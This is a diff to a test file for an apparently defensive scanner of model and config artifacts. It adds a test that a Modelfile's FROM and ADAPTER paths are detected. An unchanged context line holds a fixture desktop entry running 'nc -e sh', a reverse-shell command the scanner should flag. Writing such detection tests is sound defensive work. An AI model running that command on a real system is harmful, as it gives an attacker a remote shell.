@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from modelaudit.model.outline import Outline
+from modelaudit.model.outline import Outline, References
 from modelaudit.model.structure import UnreadReason
 from modelaudit.readers.shell.lexer import commands_of
 from modelaudit.readers.shell.meaning import mentions_of_script
@@ -109,6 +109,12 @@ def test_a_hook_and_settings_that_run_commands_are_told(read_bytes):
     assert said(read_bytes(lfs, ".gitconfig")) == []
     assert said(read_bytes(b"[Desktop Entry]\nExec=nc -e sh h 1\n", "x.desktop"))[1][0] == "reverse-shell"
     assert said(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
+
+
+def test_a_modelfile_names_its_files(read_bytes):
+    reading = read_bytes(b"FROM ../x.gguf\nADAPTER ./a.gguf\nTEMPLATE x\n", "Modelfile")
+    assert [each.target for group in reading.of(References) for each in group.items] == ["../x.gguf", "./a.gguf"]
+    assert reading.of(References) and not read_bytes(b"FROM llama3\n", "Modelfile").of(References)
 
 
 def test_a_program_of_python_within_is_an_artifact(read_bytes):
